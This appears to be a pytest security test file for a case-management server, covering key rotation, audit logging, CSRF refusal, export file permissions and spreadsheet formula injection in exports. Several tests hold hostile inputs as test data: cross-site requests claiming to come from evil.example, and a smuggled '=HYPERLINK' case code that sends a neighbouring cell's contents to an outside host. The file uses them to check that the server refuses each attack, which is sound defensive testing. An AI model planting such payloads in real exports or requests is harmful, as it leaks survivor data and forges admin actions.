# ruff: noqa: F811 (the shared ``field``/``world`` fixtures are imported from the conftests)
"""Key rotation under running processes, audit of forgotten keys, requests made by other
websites, and what exports put on disk and into spreadsheets: each at the boundary a user
touches (HTTP, CLI, the worker process)."""

from __future__ import annotations

import base64
import csv
import datetime as dt
import io
import os
import signal
import stat
import subprocess
import sys
from pathlib import Path

from cryptography.hazmat.primitives.serialization import load_der_public_key
from openpyxl import load_workbook
from sqlalchemy import select, update

from server.models import AuditLog, FormVersion, Project, ProjectKey, Submission
from server.models_cases import Assessment
from tests.admin.conftest import HTTPS, basic, login, world  # noqa: F401 (fixture)
from tests.cases.conftest import (  # noqa: F401 (fixtures)
    CONTEXT,
    PASSPHRASE,
    admin_api,
    field,
    reconcile,
)
from tests.cases.fieldwork import (
    encrypted_upload,
    instance_xml,
    ratings_for,
    start_worker,
    wait_until,
)

KINTSUGI = Path(sys.executable).parent / "kintsugi"
ENTITY = "5b0c7e2a-1d3f-4e5a-9b6c-7d8e9f0a1b2c"


def _audit(db_session, action: str) -> list[AuditLog]:
    db_session.expire_all()
    return list(
        db_session.scalars(select(AuditLog).where(AuditLog.action == action).order_by(AuditLog.id))
    )


def _intake(field, code: str = "KE-0501", **kw):
    return field.send(
        case_code=code, point="intake", date="2026-03-02",
        ratings=ratings_for(field.report, "2"), entity_id=ENTITY, **kw,
    )  # fmt: skip


# ------------------------------------------------------------------ custody: key rotation


def test_key_rotation__running_worker__decrypts_submissions_to_the_new_key(
    field, admin_api, runner, db_session, tmp_path
):
    """Should let the running reconciliation worker decrypt a submission made with a form
    published after an admin rotated the key (web API), instead of quarantining it with
    "No key of this project matches": the worker keeps only the keys it opened at unlock."""
    worker = start_worker(runner, field, tmp_path / "worker.out")
    try:
        wait_until(lambda: any(a.actor == "worker" for a in _audit(db_session, "key.unlock")))
        rotated = admin_api("POST", "/key/rotate", json={"passphrase": PASSPHRASE})
        assert rotated.status_code == 200, rotated.get_json()
        new_fp = rotated.get_json()["key_fingerprint"]
        published = admin_api("POST", "/forms", json={"context": CONTEXT})
        assert published.status_code == 201, published.get_json()

        db_session.expire_all()
        version = db_session.scalar(
            select(FormVersion).where(FormVersion.key_fingerprint == new_fp)
        )
        key = db_session.scalar(select(ProjectKey).where(ProjectKey.fingerprint == new_fp))
        public = load_der_public_key(base64.b64decode(key.public_key_b64))
        instance_id, xml = instance_xml(
            version.report, case_code="KE-0777", point="intake", date="2026-04-01",
            ratings=ratings_for(version.report, "3"), entity_id=ENTITY,
        )  # fmt: skip
        field.post(*encrypted_upload(version.report, public, instance_id, xml))

        def settled() -> bool:
            db_session.expire_all()
            status = db_session.scalar(
                select(Submission.status).where(Submission.instance_id == instance_id)
            )
            return status not in (None, "pending_decryption")

        wait_until(settled)
        sub = db_session.scalar(select(Submission).where(Submission.instance_id == instance_id))
        assert (sub.status, sub.quarantine_reason) == ("decrypted", None)
    finally:
        worker.send_signal(signal.SIGTERM)
        worker.wait(30)


def test_key_rotation__by_another_process__notes_ask_to_unlock_again(
    field, admin_api, runner, db_session
):
    """Should answer a notes request for a form encrypted with a key rotated in by another
    process (another gunicorn worker) with "unlock again" (409, the key is not open here)
    rather than "no key matches", and decrypt once the admin has unlocked again."""
    pid, env = field.project_id, {**os.environ, **runner.env}
    assert admin_api("POST", "/key/unlock", json={"passphrase": PASSPHRASE}).status_code == 200
    rotate = (
        "from server import create_app\nfrom server.services import custody\n"
        "app = create_app()\nwith app.extensions['kintsugi.db'].sessionmaker() as s:\n"
        f"    custody.rotate_project_key(s, {pid}, {PASSPHRASE.encode()!r}, actor='web:other')\n"
        "    s.commit()\n"
    )
    subprocess.run([sys.executable, "-c", rotate], env=env, check=True, timeout=120)
    assert admin_api("POST", "/forms", json={"context": CONTEXT}).status_code == 201
    db_session.expire_all()
    key = db_session.scalar(select(ProjectKey).where(ProjectKey.active.is_(True)))
    version = db_session.scalar(
        select(FormVersion).where(FormVersion.key_fingerprint == key.fingerprint)
    )
    public = load_der_public_key(base64.b64decode(key.public_key_b64))
    instance_id, xml = instance_xml(
        version.report, case_code="KE-0778", point="intake", date="2026-04-01",
        ratings=ratings_for(version.report, "3"), entity_id=ENTITY, notes={"SAF": "fictional"},
    )  # fmt: skip
    field.post(*encrypted_upload(version.report, public, instance_id, xml))
    worker = [str(KINTSUGI), "reconcile", "--project", str(pid), "--passphrase-file",
              str(field.passphrase_file), "--once"]  # fmt: skip
    subprocess.run(worker, env=env, check=True, timeout=120, capture_output=True)
    db_session.expire_all()
    assessment_id = db_session.scalar(select(Assessment.id))

    refused = admin_api("POST", f"/assessments/{assessment_id}/notes")
    assert refused.status_code == 409, refused.get_json()
    assert "unlock the key again" in refused.get_json()["message"]
    assert admin_api("POST", "/key/unlock", json={"passphrase": PASSPHRASE}).status_code == 200
    notes = admin_api("POST", f"/assessments/{assessment_id}/notes")
    assert notes.status_code == 200 and "fictional" in str(notes.get_json())


# ------------------------------------------------------------------ custody: audit


def test_notes__admin_lock_from_another_process__forgetting_the_key_is_audited(
    field, reconcile, admin_api, app, db_session
):
    """Should keep the audit row of this web process forgetting its key because an admin
    locked it elsewhere (another gunicorn worker, ``kintsugi lock``), also when the notes
    request that noticed the lock then answers 409: today the row is rolled back with it."""
    _intake(field, notes={"SAF": "fictional note"})
    reconcile()
    assert admin_api("POST", "/key/unlock", json={"passphrase": PASSPHRASE}).status_code == 200
    with app.extensions["kintsugi.db"].sessionmaker() as s:  # what another process's lock writes
        s.execute(
            update(Project)
            .where(Project.id == field.project_id)
            .values(
                key_locked_at=dt.datetime.now(dt.UTC),
                key_lock_generation=Project.key_lock_generation + 1,
            )
        )
        s.commit()
    assessment_id = db_session.scalar(select(Assessment.id))

    refused = admin_api("POST", f"/assessments/{assessment_id}/notes")
    assert refused.status_code == 409  # the key is locked now: nothing decrypted

    forgotten = [
        (a.actor, a.details)
        for a in _audit(db_session, "key.lock")
        if a.details.get("reason") == "locked by an admin"
    ]
    assert forgotten == [("web:lead", {"reason": "locked by an admin", "was_unlocked": True})]


# ------------------------------------------------------------------ web: CSRF


def test_admin_api__cached_basic_credentials__cross_site_form_post_refused(
    field, admin_api, app, client, db_session
):
    """Should refuse a state-changing API call that a browser sends from another site with the
    Basic credentials it cached (the API's 401 asks browsers for them): here a plain HTML form
    POST locking the key everywhere. Today Basic callers need no CSRF proof at all."""
    resp = client.post(
        f"/api/v1/projects/{field.project_id}/key/lock",
        base_url=HTTPS,
        headers={
            **basic("lead"),
            "Origin": "https://evil.example",
            "Sec-Fetch-Site": "cross-site",
            "Content-Type": "application/x-www-form-urlencoded",
        },
        data="",
    )
    assert resp.status_code == 403, resp.get_json()
    db_session.expire_all()
    assert db_session.get(Project, field.project_id).key_locked_at is None


def test_export_page__cross_site_get__no_export_download_no_audit(
    field, reconcile, world, client, db_session
):
    """Should not hand out the case export (and write an export audit row in the admin's
    name) for a GET another site makes the signed-in browser send (a link or redirect:
    SameSite=Lax sends the cookie); the export has no CSRF check because it is a GET."""
    _intake(field)
    reconcile()
    login(client, "admin")
    resp = client.get(
        f"/admin/projects/{field.project_id}/export?format=csv",
        headers={"Sec-Fetch-Site": "cross-site", "Referer": "https://evil.example/"},
    )
    disposition = resp.headers.get("Content-Disposition", "")
    resp.close()  # a streamed CSV holds its database snapshot until closed
    assert "attachment" not in disposition
    assert _audit(db_session, "export.download") == []


# ------------------------------------------------------------------ data at rest / exports


def test_export_cli__file_holding_survivor_data__not_readable_by_other_users(
    field, reconcile, runner, tmp_path
):
    """Should create ``kintsugi export cases --out`` files for the owner only (0600, as
    ``kintsugi backup`` does): today they get the umask's 0644 on a shared server."""
    _intake(field)
    reconcile()
    out = tmp_path / "cases.csv"
    old = os.umask(0o022)  # the common default
    try:
        result = runner.invoke(
            "export", "cases", "--project", str(field.project_id), "--out", str(out)
        )
    finally:
        os.umask(old)
    assert result.exit_code == 0, result.output
    assert "KE-0501" in out.read_text()
    assert stat.S_IMODE(out.stat().st_mode) & 0o077 == 0, oct(out.stat().st_mode)


def test_export__case_code_sent_by_a_device__never_a_spreadsheet_formula(
    field, reconcile, admin_api
):
    """Should export a device-supplied case code as text: a tablet (or anyone holding an
    app-user token and the form's public key) sending case code ``=HYPERLINK(...)`` must not
    put a live formula into the XLSX an admin opens, nor a formula-leading cell in the CSV."""
    code = '=HYPERLINK("https://x.example/"&B2,"open")'
    _intake(field, code=code)
    reconcile()

    xlsx = admin_api("GET", "/export?format=xlsx&wide=1")
    assert xlsx.status_code == 200
    data = xlsx.data
    xlsx.close()
    sheet = load_workbook(io.BytesIO(data)).worksheets[0]
    cell = sheet.cell(row=2, column=1)
    assert cell.data_type != "f", f"live formula in the export: {cell.value!r}"
    assert cell.value == code  # text typed as text: kept as the device sent it

    resp = admin_api("GET", "/export?format=csv&wide=1")
    text = resp.get_data(as_text=True)
    resp.close()  # a streamed CSV holds its database snapshot until closed
    first = next(r for r in csv.reader(io.StringIO(text)) if r and r[0] != "case_code")
    assert not first[0].startswith(("=", "+", "-", "@")), first[0]
